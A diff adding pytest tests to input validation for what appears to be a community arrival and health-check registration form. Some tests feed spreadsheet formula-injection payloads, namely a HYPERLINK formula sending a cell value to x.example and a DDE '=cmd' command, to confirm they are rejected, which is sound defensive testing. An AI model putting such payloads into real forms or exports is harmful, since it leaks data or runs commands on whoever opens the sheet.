@@ -305,6 +305,64 @@ def test_clean_arrival_takes_passports_without_the_identity_checksum():
     assert err.value.field == "id_type"
 
 
+def test_clean_arrival_names_every_wrong_field_at_once():
+    good = idno(1990, 5)
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_arrival(
+            _arrival(
+                name="",
+                id_number=good[:17] + ("0" if good[17] != "0" else "1"),
+                phone="12345",
+                arrival_date="2026-03-03",
+                address="",
+            ),
+            today=TODAY,
+        )
+    errors = {e.field: e.code for e in err.value.errors}  # type: ignore[attr-defined]
+    assert errors == {
+        "name": "name_required",
+        "id_number": "id_checksum",
+        "phone": "phone_invalid",
+        "arrival_date": "arrival_future",
+        "address": "address_required",
+    }
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_name_never_starts_like_a_formula(start):
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_arrival(_arrival(name=f'{start}HYPERLINK("http://x.example/"&B2,"点击核对")'), today=TODAY)
+    assert err.value.code == "formula_like" and err.value.field == "name"
+    assert "姓名" in err.value.message and start in err.value.message
+
+
+@pytest.mark.parametrize("field", ["from_place", "address", "transport", "note"])
+def test_free_text_of_the_public_form_never_starts_like_a_formula(field):
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_arrival(_arrival(**{field: " =1+1"}), today=TODAY)
+    assert err.value.code == "formula_like" and err.value.field == field
+    # a sign inside the text is fine
+    assert rules.clean_arrival(_arrival(**{field: "1号楼 3-502"}), today=TODAY)[field] == "1号楼 3-502"
+
+
+def test_a_phone_with_the_country_code_is_not_a_formula():
+    assert rules.clean_arrival(_arrival(phone="+8613900001111"), today=TODAY)["phone"] == "13900001111"
+
+
+def test_clean_check_and_need_name_every_wrong_field():
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_check("abc", ["99"])
+    assert {e.field for e in err.value.errors} == {"temperature", "symptoms"}  # type: ignore[attr-defined]
+    assert rules.clean_check("36.6", ["1", 2]) == (Decimal("36.6"), 3)
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_need("unknown", "")
+    assert {e.field for e in err.value.errors} == {"kind", "detail"}  # type: ignore[attr-defined]
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_need("shopping", "=cmd|' /C calc'!A0")
+    assert err.value.code == "formula_like" and err.value.field == "detail"
+    assert rules.clean_need("shopping", " 大米 ") == ("shopping", "大米")
+
+
 def test_clean_arrival_in_the_future():
     with pytest.raises(ApplicationError) as err:
         rules.clean_arrival(_arrival(arrival_date="2026-03-03"), today=TODAY)
